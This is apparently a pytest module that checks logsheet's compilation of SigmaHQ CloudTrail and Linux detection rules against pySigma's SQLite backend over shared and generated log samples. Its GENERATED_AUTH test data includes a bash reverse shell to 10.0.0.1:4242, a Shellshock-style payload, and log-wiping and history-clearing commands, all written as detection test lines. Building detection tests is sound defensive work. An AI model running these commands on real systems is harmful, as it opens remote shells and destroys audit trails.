"""The differential oracle: for every SigmaHQ CloudTrail and Linux rule in ../shared/data/sigma-rules that
pySigma's SQLite backend also converts, the rows logsheet's compiled predicate flags equal the rows that
backend's SQL returns from SQLite, over every shared CloudTrail and auth/syslog sample (the SQLite table is
built from the same events logsheet imported, one column per field the rules use)."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from sigma_oracle import Outcome, backend_sql, columns_of, matched_rowids, sqlite_rowids, sqlite_table

from fixtures import ct_record, write_json
from logsheet.core import ir
from logsheet.detect import CompiledRule, Refused, compile_rules
from logsheet.workspace import Workspace
from repo_paths import SHARED_DATA

pytestmark = pytest.mark.shared_data

RULES = SHARED_DATA / "sigma-rules"
SAMPLES = {
    "cloudtrail": {
        "grycap": ["grycap-cloudtrail-sample/sample-cloudtrail-event.json"],
        "zmallen": ["zmallen-cloudtrail2sightings"],
        "otrf": ["otrf-aws-ec2-proxy-s3-exfil/ec2_proxy_s3_exfiltration_2020-09-14011940.json"],
        "stratus": ["stratus-red-team-detonation-logs"],
        "generated_ct": [],  # generated_cloudtrail(): records built from the rules' own values, in three casings
    },
    "syslog": {
        "elastic_auth": ["elastic-integrations-system-auth"],
        "fail2ban": ["fail2ban-sshd-testlogs"],
        "loghub": ["loghub-linux/Linux_2k.log"],
        "generated_auth": [],  # GENERATED_AUTH below: the real samples flag nothing, so some lines that should
    },
}
# Lines written by this test (from the examples in the rules' own comments, and near misses), so that the
# syslog comparison has rows that match and rows that almost do.
GENERATED_AUTH = [
    "Dec 21 16:42:19 testserver useradd[1337]: new user: name=butter1, UID=1000, GID=0, home=/root, shell=/bin/bash",
    "Dec 21 17:13:54 testserver useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash",
    "Dec 21 17:30:22 testserver useradd[1337]: new user: name=butter4, UID=1000, GID=1000, home=/home/b, shell=/bin/sh",
    "Dec 21 17:31:00 testserver sshd[99]: fatal: buffer_get_string: bad string",
    "Dec 21 17:31:01 testserver sshd[99]: fatal: bufferXget_string: bad string",
    "Dec 21 17:31:02 testserver sshd[99]: Corrupted MAC on input.",
    "Dec 21 17:31:03 testserver sshd[99]: CORRUPTED mac ON INPUT",
    "Dec 21 17:32:00 testserver bash[7]: cat /dev/null > /var/log/syslog",
    "Dec 21 17:32:01 testserver bash[7]: rm /var/log/syslog",
    "Dec 21 17:32:02 testserver bash[7]: bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "Dec 21 17:32:03 testserver bash[7]: () { :; }; /bin/bash -c id",
    "Dec 21 17:32:04 testserver kernel: [1.0] segfault at 0 ip 00007f sp 00007f error 4 in libc.so",
    "Dec 21 17:32:05 testserver sudo: root : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/history -c",
]
KEYWORDS = {"cloudtrail": None, "syslog": "message"}

# Rules whose results differ, with the reason (a documented bug of the other side); empty: all agree.
EXPLAINED: dict[str, str] = {}


def _leaf_values(pred: ir.Predicate, out: dict[str, object]) -> None:
    """A value for each column a rule tests (the first alternative of an 'or'), so that a record can match it."""
    if isinstance(pred, ir.And):
        for item in pred.items:
            _leaf_values(item, out)
    elif isinstance(pred, ir.Or):
        _leaf_values(pred.items[0], out)
    elif isinstance(pred, ir.Compare) and pred.value is not None and pred.op == "=":
        out.setdefault(pred.column, pred.value)
    elif isinstance(pred, ir.Compare) and pred.value is None and pred.op == "!=":
        out.setdefault(pred.column, "present")
    elif isinstance(pred, ir.TextMatch):
        shape = {"contains": "pre-{}-post", "starts_with": "{}-post", "ends_with": "pre-{}"}[pred.op]
        out.setdefault(pred.column, shape.format(pred.value))


def _column_pairs(pred: ir.Predicate) -> list[ir.CompareColumns]:
    """The column-to-column comparisons (Sigma's ``|fieldref``) anywhere in a predicate."""
    if isinstance(pred, (ir.And, ir.Or)):
        return [c for item in pred.items for c in _column_pairs(item)]
    if isinstance(pred, ir.Not):
        return _column_pairs(pred.item)
    return [pred] if isinstance(pred, ir.CompareColumns) else []


def _set(record: dict[str, object], column: str, value: object) -> None:
    """Set a (dotted) field of a record, nested fields inside their JSON objects."""
    target = record
    *path, last = column.split(".")
    for key in path:
        if not isinstance(target.get(key), dict):
            target[key] = {}
        target = target[key]  # type: ignore[assignment]
    target[last] = value


def generated_cloudtrail() -> list[dict[str, object]]:
    """For each SigmaHQ CloudTrail rule, a record carrying the values it tests, as written, upper-cased and
    lower-cased (Sigma ignores case); for a rule comparing two fields (``|fieldref``), records where they are
    equal, equal but for case, and different."""
    records: list[dict[str, object]] = []
    for r in compile_rules([RULES], "cloudtrail"):
        if not isinstance(r, CompiledRule):
            continue
        values: dict[str, object] = {}
        _leaf_values(r.predicate, values)
        pairs = [("Same-Value", "Same-Value"), ("Same-Value", "SAME-value"), ("Same-Value", "Other-Value")]
        for casing in (str, str.upper, str.lower):
            for left, right in pairs if _column_pairs(r.predicate) else [("", "")]:
                record = ct_record(len(records))
                for column, value in values.items():
                    _set(record, column, casing(value) if isinstance(value, str) else value)
                for pair in _column_pairs(r.predicate):
                    _set(record, pair.column, left)
                    _set(record, pair.other, right)
                records.append(record)
    return records


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    if not RULES.exists():
        pytest.skip(f"public test data not available: {RULES} is absent (it lives in ../shared/data)")
    root = tmp_path_factory.mktemp("sigma-diff")
    ws = Workspace.open(root / "ws")
    for samples in SAMPLES.values():
        for sheet, parts in samples.items():
            copies = []
            if not parts and sheet in SAMPLES["syslog"]:
                target = root / "in" / "generated" / "auth.log"
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_text("\n".join(GENERATED_AUTH) + "\n", encoding="utf-8")
                copies.append(target)
            elif not parts:
                copies.append(write_json(root / "in" / "generated" / "ct.json", {"Records": generated_cloudtrail()}))
            for part in parts:
                source, target = SHARED_DATA / part, root / "in" / part
                target.parent.mkdir(parents=True, exist_ok=True)
                if source.is_dir():
                    shutil.copytree(source, target)
                else:
                    shutil.copy2(source, target)
                copies.append(target)
            ws.import_paths(list(copies), sheet=sheet)
    yield ws


def _rule_texts() -> dict[str, str]:
    return {str(p): p.read_text(encoding="utf-8") for p in sorted(RULES.rglob("*.yml"))}


def compare(ws: Workspace, fmt: str) -> tuple[list[Outcome], list[Refused], list[str]]:
    """Every rule for ``fmt`` the backend converts, over every sample of ``fmt``."""
    outcomes: list[Outcome] = []
    refused: list[Refused] = []
    not_converted: list[str] = []
    texts = _rule_texts()
    schema = ws.sheet(next(iter(SAMPLES[fmt]))).schema  # every sample of a format has its format's columns
    compiled = compile_rules([Path(p) for p in texts], fmt, schema=schema)
    ours = [r for r in compiled if isinstance(r, CompiledRule)]
    refused = [r for r in compiled if isinstance(r, Refused) and r.kind != "logsource"]
    fields = set().union(*(columns_of(r.predicate) for r in ours)) | ({KEYWORDS[fmt]} - {None})
    tables = {sheet: sqlite_table(ws, sheet, fields) for sheet in SAMPLES[fmt]}
    for rule in ours:
        conversion = backend_sql(texts[rule.origin], KEYWORDS[fmt])
        if not conversion.sql:
            not_converted.append(f"{rule.title}: {conversion.error}")
            continue
        for sheet, db in tables.items():
            outcomes.append(Outcome(rule, sheet, matched_rowids(ws, sheet, rule.predicate), sqlite_rowids(db, conversion.sql)))
    return outcomes, refused, not_converted


def _report(fmt: str, outcomes: list[Outcome], refused: list[Refused], not_converted: list[str]) -> list[str]:
    rules = {o.rule.id for o in outcomes}
    differing = {o.rule.id for o in outcomes if not o.agrees}
    hits = sum(len(o.ours) for o in outcomes)
    firing = len({o.rule.id for o in outcomes if o.ours})
    print(
        f"\n{fmt}: {len(rules)} rules compared over {len(SAMPLES[fmt])} samples; {len(rules - differing)} agree on every"
        f" sample, {len(differing)} differ; {hits} matched rows in all, by {firing} rules; {len(refused)} refused by logsheet;"
        f" {len(not_converted)} not converted by the SQLite backend"
    )
    for r in refused:
        print(f"  refused: {r.title}: {r.reason}")
    for line in not_converted:
        print(f"  backend: {line}")
    lines = []
    for o in outcomes:
        if not o.agrees and o.rule.id not in EXPLAINED:
            lines.append(
                f"{o.rule.title} ({o.rule.id}) on {o.sheet}: only logsheet {sorted(o.ours - o.theirs)[:5]},"
                f" only SQLite {sorted(o.theirs - o.ours)[:5]}"
            )
    return lines


@pytest.mark.parametrize("fmt", ["cloudtrail", "syslog"])
def test_logsheet_matches_what_the_sqlite_backend_returns(workspace: Workspace, fmt: str) -> None:
    outcomes, refused, not_converted = compare(workspace, fmt)
    unexplained = _report(fmt, outcomes, refused, not_converted)
    assert not unexplained, "\n".join(unexplained)
    # not vacuous: the rules are compared, and some of them flag real rows on both sides
    assert len({o.rule.id for o in outcomes}) >= (50 if fmt == "cloudtrail" else 15)
    assert sum(1 for o in outcomes if o.ours and o.agrees) >= (10 if fmt == "cloudtrail" else 3)
